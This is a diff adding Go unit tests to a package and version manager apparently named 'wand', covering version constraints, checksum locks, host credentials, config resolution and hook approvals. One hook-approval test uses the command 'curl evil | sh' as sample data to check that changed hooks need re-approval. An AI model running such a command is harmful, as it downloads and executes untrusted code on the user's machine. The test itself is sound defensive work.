@@ -151,3 +151,257 @@ func TestWandRC_Operations(t *testing.T) {
 		t.Error("version should be removed")
 	}
 }
+
+func TestVersionEnvVar(t *testing.T) {
+	tests := map[string]string{
+		"nodejs":       "WAND_NODEJS_VERSION",
+		"clang-format": "WAND_CLANG_FORMAT_VERSION",
+		"python3.12":   "WAND_PYTHON3_12_VERSION",
+	}
+	for pkg, want := range tests {
+		if got := VersionEnvVar(pkg); got != want {
+			t.Errorf("VersionEnvVar(%q) = %q, want %q", pkg, got, want)
+		}
+	}
+}
+
+func TestShimIndex_Operations(t *testing.T) {
+	index := NewShimIndex()
+	index.SetOwner("find", "findutils")
+	index.SetOwner("xargs", "findutils")
+	index.SetOwner("ls", "coreutils")
+
+	if owner, ok := index.Owner("find"); !ok || owner != "findutils" {
+		t.Errorf("Owner(find) = (%q, %v), want (findutils, true)", owner, ok)
+	}
+	if got := index.Binaries("findutils"); len(got) != 2 || got[0] != "find" || got[1] != "xargs" {
+		t.Errorf("Binaries(findutils) = %v, want [find xargs]", got)
+	}
+
+	index.SetOwner("find", "coreutils")
+	if !index.Release("xargs") || index.Release("xargs") {
+		t.Error("Release should succeed once")
+	}
+	if got := index.Binaries("findutils"); len(got) != 0 {
+		t.Errorf("findutils should own nothing, owns %v", got)
+	}
+}
+
+func TestPlatformConfig_PinnedSHA256(t *testing.T) {
+	cfg := &PlatformConfig{SHA256: map[string]string{
+		"1.2.0":  "aaa",
+		"v2.0.1": "bbb",
+	}}
+
+	tests := []struct {
+		version string
+		want    string
+	}{
+		{"1.2.0", "aaa"},
+		{"1.2", "aaa"},
+		{"2.0.1", "bbb"},
+		{"3.0.0", ""},
+	}
+
+	for _, tt := range tests {
+		v, _ := NewVersion(tt.version)
+		if got := cfg.PinnedSHA256(v); got != tt.want {
+			t.Errorf("PinnedSHA256(%s) = %q, want %q", tt.version, got, tt.want)
+		}
+	}
+}
+
+func TestChecksumLock_Operations(t *testing.T) {
+	l := NewChecksumLock()
+	url := "https://example.com/tool-1.0.0.tar.gz"
+
+	if !l.Matches(url, "abc") {
+		t.Error("unrecorded URL should match any digest")
+	}
+
+	l.Record(url, "tool", "1.0.0", "ABC")
+	if !l.Matches(url, "abc") {
+		t.Error("recorded digest should match case-insensitively")
+	}
+	if l.Matches(url, "def") {
+		t.Error("different digest should not match")
+	}
+
+	if artifact, ok := l.Get(url); !ok || artifact.Package != "tool" || artifact.SHA256 != "abc" {
+		t.Errorf("Get() = %+v, %v", artifact, ok)
+	}
+}
+
+func TestHookApprovals_Operations(t *testing.T) {
+	a := NewHookApprovals()
+	commands := []string{"make install", "echo done"}
+
+	if a.IsApproved("tool", commands) {
+		t.Error("nothing should be approved initially")
+	}
+
+	a.Approve("tool", commands)
+	if !a.IsApproved("tool", commands) {
+		t.Error("approved commands should be approved")
+	}
+	if a.IsApproved("tool", []string{"make install", "curl evil | sh"}) {
+		t.Error("changed commands should need approval again")
+	}
+	if a.IsApproved("other", commands) {
+		t.Error("approval should be per package")
+	}
+
+	if !a.Revoke("tool") || a.IsApproved("tool", commands) {
+		t.Error("revoked approval should not be approved")
+	}
+}
+
+func TestNetworkConfig_CredentialFor(t *testing.T) {
+	c := &NetworkConfig{Hosts: map[string]*HostCredential{
+		"files.example.com":      {Token: "host"},
+		"files.example.com:8443": {Token: "port"},
+	}}
+
+	if cred, ok := c.CredentialFor("files.example.com:8443"); !ok || cred.Token != "port" {
+		t.Errorf("host:port should match exactly, got %+v", cred)
+	}
+	if cred, ok := c.CredentialFor("FILES.example.com:443"); !ok || cred.Token != "host" {
+		t.Errorf("bare host should match any port, got %+v", cred)
+	}
+	if _, ok := c.CredentialFor("other.example.com"); ok {
+		t.Error("other hosts should have no credential")
+	}
+
+	var empty *NetworkConfig
+	if _, ok := empty.CredentialFor("files.example.com"); ok {
+		t.Error("nil config should have no credentials")
+	}
+}
+
+func TestConfig_Resolve(t *testing.T) {
+	file := &Config{}
+	if err := file.Set("parallelism", "8"); err != nil {
+		t.Fatal(err)
+	}
+	if err := file.Set("formulas.taps", "~/taps/a, /opt/b"); err != nil {
+		t.Fatal(err)
+	}
+	if err := file.Set("scope", "everywhere"); err == nil {
+		t.Error("invalid scope should be rejected")
+	}
+	if err := file.Set("cache_ttl", "1"); err == nil {
+		t.Error("unknown setting should be rejected")
+	}
+	if err := file.Set("version_files", ".nvmrc, Gemfile"); err == nil {
+		t.Error("unknown version file should be rejected")
+	}
+
+	config, sources, err := ResolveConfig(file, map[string]string{"WAND_PARALLELISM": "2", "WAND_HOOKS": "deny"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(config.VersionFileNames()) != len(VersionFiles) {
+		t.Errorf("expected every version file by default, got %v", config.VersionFileNames())
+	}
+	if err := config.Set("version_files", "none"); err != nil || config.VersionFileNames() != nil {
+		t.Errorf("none should read no version files, got %v (%v)", config.VersionFileNames(), err)
+	}
+	if config.Parallelism != 2 || sources["parallelism"] != ConfigSourceEnv {
+		t.Errorf("environment should override the file, got %d from %s", config.Parallelism, sources["parallelism"])
+	}
+	if config.Hooks != "deny" || config.Scope != "project" || sources["scope"] != ConfigSourceDefault {
+		t.Errorf("unexpected hooks %q, scope %q from %s", config.Hooks, config.Scope, sources["scope"])
+	}
+	if sources["formulas.taps"] != ConfigSourceFile {
+		t.Errorf("taps should come from the file, got %s", sources["formulas.taps"])
+	}
+
+	config.ExpandPaths("/home/me")
+	if config.Formulas.Taps[0] != "/home/me/taps/a" || config.Formulas.Taps[1] != "/opt/b" {
+		t.Errorf("unexpected taps %v", config.Formulas.Taps)
+	}
+
+	if _, _, err := ResolveConfig(nil, map[string]string{"WAND_CONNECT_TIMEOUT": "soon"}); err == nil {
+		t.Error("invalid environment value should be rejected")
+	}
+	if problems := (&Config{Scope: "x", Hooks: "y"}).Validate(); len(problems) != 2 {
+		t.Errorf("expected 2 problems, got %v", problems)
+	}
+}
+
+func TestFormula_RuntimeEnv(t *testing.T) {
+	f := &Formula{
+		Env:  map[string]string{"GOROOT": "{install_path}", "GOFLAGS": "-mod=mod"},
+		Path: []string{"bin", "misc/wasm"},
+	}
+
+	env := f.RuntimeEnv("/wand/packages/go/1.22.0")
+	if env["GOROOT"] != "/wand/packages/go/1.22.0" || env["GOFLAGS"] != "-mod=mod" {
+		t.Errorf("unexpected env %v", env)
+	}
+	path := f.RuntimePath("/wand/packages/go/1.22.0")
+	if len(path) != 2 || path[1] != "/wand/packages/go/1.22.0/misc/wasm" {
+		t.Errorf("unexpected path %v", path)
+	}
+}
+
+func TestVersionConstraint_Matches(t *testing.T) {
+	tests := []struct {
+		constraint string
+		version    string
+		want       bool
+	}{
+		{"1.7.1", "1.7.1", true},
+		{"1.7.1", "1.7.2", false},
+		{"v1.7.1", "1.7.1", true},
+		{"1.7", "1.7.9", true},
+		{"1.7", "1.8.0", false},
+		{"1.7.x", "1.7.3", true},
+		{"20", "20.10.0", true},
+		{"20", "21.0.0", false},
+		{"^1.6.2", "1.9.0", true},
+		{"^1.6.2", "1.6.1", false},
+		{"^1.6.2", "2.0.0", false},
+		{"~1.6.2", "1.6.9", true},
+		{"~1.6.2", "1.7.0", false},
+		{">=1.6 <2", "1.9.9", true},
+		{">=1.6 <2", "2.0.0", false},
+		{"latest", "0.1.0", true},
+		{"1.x", "1.2.0-rc1", false},
+		{"1.2.0-rc1", "1.2.0-rc1", true},
+	}
+
+	for _, tt := range tests {
+		c, err := ParseVersionConstraint(tt.constraint)
+		if err != nil {
+			t.Fatalf("ParseVersionConstraint(%q): %v", tt.constraint, err)
+		}
+		v, _ := NewVersion(tt.version)
+		if got := c.Matches(v); got != tt.want {
+			t.Errorf("%q matches %s = %v, want %v", tt.constraint, tt.version, got, tt.want)
+		}
+	}
+
+	for _, invalid := range []string{">=", "^abc", "1.2.3.4"} {
+		if _, err := ParseVersionConstraint(invalid); err == nil {
+			t.Errorf("expected %q to be invalid", invalid)
+		}
+	}
+}
+
+func TestVersionConstraint_Best(t *testing.T) {
+	var versions []*Version
+	for _, s := range []string{"18.19.0", "20.9.0", "20.10.0", "21.1.0"} {
+		v, _ := NewVersion(s)
+		versions = append(versions, v)
+	}
+
+	c, _ := ParseVersionConstraint("20")
+	if best := c.Best(versions); best == nil || best.String() != "20.10.0" {
+		t.Errorf("expected 20.10.0, got %v", best)
+	}
+	c, _ = ParseVersionConstraint("^22")
+	if best := c.Best(versions); best != nil {
+		t.Errorf("expected no match, got %v", best)
+	}
+}